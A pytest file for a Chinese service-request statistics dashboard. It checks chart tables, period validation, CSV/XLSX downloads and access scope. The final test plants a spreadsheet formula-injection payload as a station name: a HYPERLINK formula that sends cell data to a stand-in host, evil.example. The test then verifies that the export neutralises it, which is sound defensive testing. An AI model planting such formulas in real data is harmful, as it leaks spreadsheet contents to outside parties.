"""统计 over HTTP: each chart's numbers in a table beside it, the period form, the downloads, the scope.

The figures are the hand-computed ones of tests/support/request_stats.py (county A, 9/28-10/18 2026).
"""

import csv
import io
import re

import openpyxl
import pytest
from playwright.sync_api import expect

from server.operations.core.audit import Actor
from server.operations.network.stations import update_station
from server.operations.service_requests.deadlines import today
from server.operations.service_requests.stats import Period
from tests.support.network import PASSWORD, login
from tests.support.request_stats import stats_requests  # noqa: F401 - a fixture

PERIOD = {"start": "2026-09-28", "end": "2026-10-18"}
CHARTS = ("weekly", "timing", "on_time", "satisfaction", "repeat", "categories", "stations", "overdue")
pytestmark = pytest.mark.usefixtures("stats_requests")


def page_of(client, username, **args):
    login(client, username)
    response = client.get("/console/dashboard", query_string=args or PERIOD)
    return response, response.get_data(as_text=True)


def table(html, key):
    """The rows of one chart's table as lists of cell texts, its header first."""
    body = re.search(rf'<table[^>]*id="table-{key}".*?</table>', html, re.S).group(0)
    rows = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    return [[re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", r, re.S)]
            for r in rows]  # fmt: skip


def test_every_chart_has_its_numbers_in_a_table_beside_it(client):
    response, html = page_of(client, "supervisor_a")
    assert response.status_code == 200
    weekly = [
        ["周", "新增", "办结或关闭"],
        ["09-28起", "2", "0"],
        ["10-05起", "2", "3"],
        ["10-12起", "3", "1"],
    ]
    assert table(html, "weekly") == weekly
    assert table(html, "timing")[1:] == [["首次答复", "1.0", "4"], ["办结", "4.0", "3"]]
    assert table(html, "on_time")[1:] == [["按期办结", "2"], ["逾期办结", "1"]]
    assert table(html, "satisfaction")[1:] == [["满意", "1", "33.3"], ["基本满意", "1", "33.3"],
                                               ["不满意", "1", "33.3"]]  # fmt: skip
    assert table(html, "repeat")[1:] == [["只提出一件", "5"], ["提出两件及以上", "1"]]
    assert table(html, "stations")[1:] == [["甲区中心", "0"], ["甲一街道站", "4"], ["甲二街道站", "0"]]
    assert ["困难帮扶", "1"] in table(html, "categories") and ["其他", "0"] in table(html, "categories")
    assert "66.7%" in html and "16.7%" in html and 'data-chart="line"' in html


def test_nothing_outside_the_scope_is_counted_or_named(client):
    _, html = page_of(client, "clerk_a1a")
    assert table(html, "stations")[1:] == [["甲一甲村站", "2"]]
    assert table(html, "weekly")[1:] == [["09-28起", "1", "0"], ["10-05起", "0", "1"], ["10-12起", "2", "0"]]
    assert "乙" not in html.split("<main", 1)[1]  # no station of county B, not even in the navigation's place


def test_the_charts_come_from_the_app_itself(client):
    _, html = page_of(client, "supervisor_a")
    scripts = re.findall(r'<script src="([^"]+)"', html)
    assert "/static/vendor/echarts/echarts.min.js" in scripts and "/static/console/dashboard.js" in scripts
    assert all(src.startswith("/static/") for src in scripts)
    library = client.get("/static/vendor/echarts/echarts.min.js")
    assert library.status_code == 200 and b"Apache License" in library.data[:1000]
    assert client.get("/static/vendor/echarts/LICENSE").status_code == 200


def test_the_default_period_is_the_last_twelve_weeks(client):
    login(client, "supervisor_a")
    html = client.get("/console/dashboard").get_data(as_text=True)
    period = Period.last_weeks(today())
    assert f'name="start" value="{period.start}"' in html and f'name="end" value="{period.end}"' in html
    assert len(table(html, "weekly")) == 1 + 12


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"start": "2026-10-18", "end": "2026-09-28"}, "结束日期不能早于开始日期"),
        ({"start": "十月一日", "end": ""}, "日期格式应为"),
        ({"start": "2020-01-01", "end": "2026-10-18"}, "统计时段最长两年"),
    ],
)
def test_a_bad_period_is_a_400_with_its_reason_and_the_default_figures(client, args, message):
    response, html = page_of(client, "supervisor_a", **args)
    assert response.status_code == 400 and message in html
    assert len(table(html, "weekly")) == 1 + 12


@pytest.mark.parametrize("chart", CHARTS)
def test_each_chart_downloads_as_csv_with_the_numbers_on_the_page(client, chart):
    _, html = page_of(client, "supervisor_a")
    response = client.get(
        "/console/dashboard/export", query_string={"chart": chart, "format": "csv", **PERIOD}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # so that Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [[c if c else "—" for c in row] for row in rows] == table(html, chart)


@pytest.mark.parametrize("chart", ["weekly", "stations"])
def test_each_chart_downloads_as_xlsx(client, chart):
    _, html = page_of(client, "supervisor_a")
    response = client.get(
        "/console/dashboard/export", query_string={"chart": chart, "format": "xlsx", **PERIOD}
    )
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [[str(v) for v in row] for row in sheet.iter_rows(values_only=True) if any(row)]
    assert rows[: len(table(html, chart))] == table(html, chart)


@pytest.mark.parametrize(
    ("args", "status"),
    [
        ({"chart": "secret", "format": "csv"}, 404),
        ({"chart": "weekly", "format": "pdf"}, 404),
        ({"chart": "weekly", "format": "csv", "start": "x"}, 400),
    ],
)
def test_a_download_of_nothing_known_is_refused(client, args, status):
    login(client, "supervisor_a")
    assert client.get("/console/dashboard/export", query_string=args).status_code == status


def test_a_broadcaster_has_no_dashboard_and_the_navigation_links_it_for_clerks(client):
    login(client, "broadcaster_a")
    assert client.get("/console/dashboard").status_code == 403
    assert client.get("/console/dashboard/export?chart=weekly&format=csv").status_code == 403
    client.post("/console/logout", data={"csrf_token": _token(client)})
    login(client, "clerk_a1a")
    assert '<a href="/console/dashboard"' in client.get("/console/").get_data(as_text=True)


def _token(client):
    from tests.support.network import csrf_token

    return csrf_token(client.get("/console/").get_data(as_text=True))


def test_a_browser_draws_each_chart_beside_its_table(page, live_app):
    errors = []
    page.on(
        "console",
        lambda m: m.type == "error" and "favicon" not in m.location["url"] and errors.append(m.text),
    )
    _log_in(page, live_app, "supervisor_a")
    page.goto(f"{live_app}/console/dashboard?start=2026-09-28&end=2026-10-18")
    drawn = ", ".join(f"#chart-{key} .chart-pair.has-chart canvas" for key in CHARTS)
    expect(page.locator(drawn)).to_have_count(len(CHARTS))
    expect(page.locator("#table-weekly")).to_contain_text("10-05起")
    assert errors == []  # no script error, nothing the page's CSP refused


def test_a_ring_of_nothing_but_zeros_is_not_drawn(page, live_app):
    _log_in(page, live_app, "supervisor_a")
    page.goto(f"{live_app}/console/dashboard?start=2026-01-05&end=2026-01-18")  # nothing filed then
    expect(page.locator("#table-weekly")).to_contain_text("01-05起")
    expect(page.locator(".chart-pair.has-chart .chart-bar canvas").first).to_be_visible()
    for key in ("on_time", "satisfaction", "repeat"):  # the pies: 0 of 0 would be equal slices
        expect(page.locator(f".chart-pair.has-chart:has(#table-{key})")).to_have_count(0)
    expect(page.locator("#table-on_time")).to_contain_text("逾期办结")


def test_without_javascript_the_tables_alone_show_every_number(browser, live_app):
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1366, "height": 768})
    page = context.new_page()
    _log_in(page, live_app, "supervisor_a")
    page.goto(f"{live_app}/console/dashboard?start=2026-09-28&end=2026-10-18")
    expect(page.locator("canvas")).to_have_count(0)
    expect(page.locator("#table-stations")).to_contain_text("甲一街道站")
    expect(page.locator("#table-stations")).to_be_visible()
    context.close()


def _log_in(page, live_app, username):
    page.goto(f"{live_app}/console/login")
    page.fill("#username", username)
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    expect(page.locator("h1")).to_contain_text("首页")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_a_station_named_like_a_formula_downloads_as_text_not_a_formula(client, network, db):
    update_station(network.station("A1"), {"name": FORMULA}, Actor.system("test"))
    db.session.commit()
    login(client, "supervisor_a")
    args = {"chart": "stations", **PERIOD}
    response = client.get("/console/dashboard/export", query_string={**args, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert ["'" + FORMULA, "4"] in rows  # the quote makes Excel and WPS read the cell as text
    assert ["甲区中心", "0"] in rows
    response = client.get("/console/dashboard/export", query_string={**args, "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA)
    assert cell.data_type == "s"
